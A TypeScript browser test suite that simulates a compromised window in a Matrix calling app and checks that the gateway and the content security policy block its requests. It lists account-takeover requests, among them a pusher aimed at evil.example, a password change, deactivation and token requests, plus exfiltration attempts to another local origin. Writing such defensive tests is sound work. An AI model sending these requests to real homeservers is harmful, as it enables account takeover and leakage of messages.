/**
 * A compromised window: a script in the page tries, through the real bridge and the real
 * gateway, what a phone never needs — and Synapse, asked with the person's own token
 * afterwards, shows that nothing happened.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { launchChromium } from '../support/browser.js';
import { matrixRequest } from '../support/matrixClientApi.js';
import { savedToken, signedInPerson, type Person } from './support/people.js';

const synapse = inject('synapse');

describe('a compromised window, through the gateway', () => {
  let browser: Browser;
  let alice: Person;

  beforeAll(async () => {
    browser = await launchChromium();
    alice = await signedInPerson(browser, synapse, inject('rendererDir'), 'Alice');
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await alice?.harness.close();
  });

  /** What the page's own script gets back for a request through the bridge. */
  const attempt = (method: string, path: string, body: unknown = {}) =>
    alice.page.evaluate(
      async ([m, url, b]) => {
        const bridge = (globalThis as unknown as { switchboard: { request(c: string, p: unknown): Promise<unknown> } })
          .switchboard;
        return bridge.request('matrix.fetch', {
          requestId: `attack-${Math.random().toString(36).slice(2, 10)}`,
          method: m,
          url,
          headers: { 'content-type': 'application/json' },
          body: m === 'GET' ? null : { encoding: 'text', data: JSON.stringify(b) },
        });
      },
      [method, `${synapse.baseUrl}${path}`, body] as const,
    ) as Promise<{ ok: boolean; value?: { status: number; body: { data: string } } }>;

  it('is refused everything a phone never needs, and the homeserver saw none of it', async () => {
    const me = encodeURIComponent(alice.user.userId);
    const attacks: [string, string, unknown][] = [
      [
        'POST',
        '/_matrix/client/v3/pushers/set',
        {
          kind: 'http',
          app_id: 'evil',
          pushkey: 'k',
          app_display_name: 'x',
          device_display_name: 'x',
          lang: 'en',
          data: { url: 'https://evil.example/_matrix/push/v1/notify' },
        },
      ],
      ['POST', `/_matrix/client/v3/user/${me}/openid/request_token`, {}],
      ['POST', '/_matrix/client/v1/login/get_token', {}],
      ['POST', '/_matrix/client/v3/logout/all', {}],
      ['POST', '/_matrix/client/v3/account/password', { new_password: 'owned' }],
      ['POST', '/_matrix/client/v3/account/deactivate', {}],
      ['PUT', `/_matrix/client/v3/user/${me}/account_data/m.identity_server`, { base_url: 'https://evil.example' }],
      ['POST', '/_matrix/client/v3/createRoom', { visibility: 'public', room_alias_name: 'leak' }],
    ];
    for (const [method, path, body] of attacks) {
      const reply = await attempt(method, path, body);
      expect(reply, `${method} ${path}`).toMatchObject({ ok: true, value: { status: 403 } });
      expect(JSON.parse(reply.value?.body.data ?? '{}'), `${method} ${path}`).toMatchObject({
        errcode: 'M_FORBIDDEN',
        error: expect.stringMatching(/^Switchboard refused this request: /),
      });
    }

    const token = await savedToken(alice.harness);
    // Still signed in, with no pusher, no identity server, no public room, the password unchanged.
    expect(
      await matrixRequest<{ user_id: string }>(synapse.baseUrl, token, 'GET', '/_matrix/client/v3/account/whoami'),
    ).toMatchObject({ user_id: alice.user.userId });
    expect(await matrixRequest(synapse.baseUrl, token, 'GET', '/_matrix/client/v3/pushers')).toEqual({ pushers: [] });
    await expect(
      matrixRequest(synapse.baseUrl, token, 'GET', `/_matrix/client/v3/user/${me}/account_data/m.identity_server`),
    ).rejects.toThrow(/404/);
    const login = await fetch(`${synapse.baseUrl}/_matrix/client/v3/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({
        type: 'm.login.password',
        identifier: { type: 'm.id.user', user: alice.user.userId },
        password: alice.user.password,
      }),
    });
    expect(login.status).toBe(200);
    const { access_token: extra } = (await login.json()) as { access_token: string };
    await matrixRequest(synapse.baseUrl, extra, 'POST', '/_matrix/client/v3/logout', {});
    // The window itself still works: the phone's own requests go through.
    await alice.page.getByText('Ready for calls').waitFor({ timeout: 10_000 });
  });

  it('reaches no other origin and runs no script but its own: fetch, WebSocket, beacon, image, script, frame, form, inline, eval', async () => {
    // Another origin on this machine, counting whatever reaches it.
    const arrived: string[] = [];
    const collector: Server = createServer((request, response) => {
      arrived.push(`${request.method} ${request.url}`);
      response.end('ok');
    });
    collector.on('upgrade', (request, socket) => {
      arrived.push(`UPGRADE ${request.url}`);
      socket.destroy();
    });
    await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve));
    const elsewhere = `127.0.0.1:${(collector.address() as AddressInfo).port}`;
    const violations: string[] = [];
    await alice.page.exposeFunction('__noteViolation', (directive: string) => violations.push(directive));
    await alice.page.evaluate(
      `document.addEventListener('securitypolicyviolation', (event) => window.__noteViolation(event.effectiveDirective))`,
    );

    // The page's own script, as a compromised window would run it (a string: the page's world, not Node's).
    const attack = `(async (origin) => {
      const settle = (start) =>
        new Promise((resolve) => {
          const timer = setTimeout(() => resolve('no answer'), 3_000);
          start((result) => {
            clearTimeout(timer);
            resolve(result);
          });
        });
      const results = {};
      results.fetch = await fetch(\`http://\${origin}/fetch\`).then(
        () => 'reached',
        () => 'refused',
      );
      results.websocket = await settle((done) => {
        try {
          const socket = new WebSocket(\`ws://\${origin}/socket\`);
          socket.onopen = () => done('reached');
          socket.onerror = () => done('refused');
        } catch {
          done('refused');
        }
      });
      // Queued either way; whether it left shows at the collector.
      navigator.sendBeacon(\`http://\${origin}/beacon\`, 'x');
      results.image = await settle((done) => {
        const image = new Image();
        image.onload = () => done('reached');
        image.onerror = () => done('refused');
        image.src = \`http://\${origin}/image.png\`;
      });
      results.script = await settle((done) => {
        const script = document.createElement('script');
        script.onload = () => done('reached');
        script.onerror = () => done('refused');
        script.src = \`http://\${origin}/script.js\`;
        document.head.append(script);
      });
      // A refused frame still fires load (with an error page): whether it left shows at the collector.
      const frame = document.createElement('iframe');
      frame.src = \`http://\${origin}/frame\`;
      document.body.append(frame);
      const form = document.createElement('form');
      form.method = 'post';
      form.action = \`http://\${origin}/form\`;
      form.target = '_blank';
      document.body.append(form);
      form.submit();
      const inline = document.createElement('script');
      inline.textContent = 'window.__inlineRan = true;';
      document.head.append(inline);
      results.inline = window.__inlineRan === true ? 'ran' : 'refused';
      try {
        results.eval = String(eval('1 + 1'));
      } catch {
        results.eval = 'refused';
      }
      try {
        results.function = String(new Function('return 2')());
      } catch {
        results.function = 'refused';
      }
      return results;
    })`;
    const outcome = (await alice.page.evaluate(`${attack}(${JSON.stringify(elsewhere)})`)) as Record<string, string>;

    expect(outcome).toEqual({
      fetch: 'refused',
      websocket: 'refused',
      image: 'refused',
      script: 'refused',
      inline: 'refused',
      eval: 'refused',
      function: 'refused',
    });
    // Give anything that slipped out (the beacon, the frame, the form) a moment to arrive.
    await new Promise((resolve) => setTimeout(resolve, 1_000));
    expect(arrived).toEqual([]);
    expect(new Set(violations)).toEqual(
      new Set(['connect-src', 'img-src', 'script-src-elem', 'frame-src', 'form-action', 'script-src']),
    );
    collector.closeAllConnections();
    await new Promise<void>((resolve) => collector.close(() => resolve()));
    await alice.page.getByText('Ready for calls').waitFor({ timeout: 10_000 });
  });
});
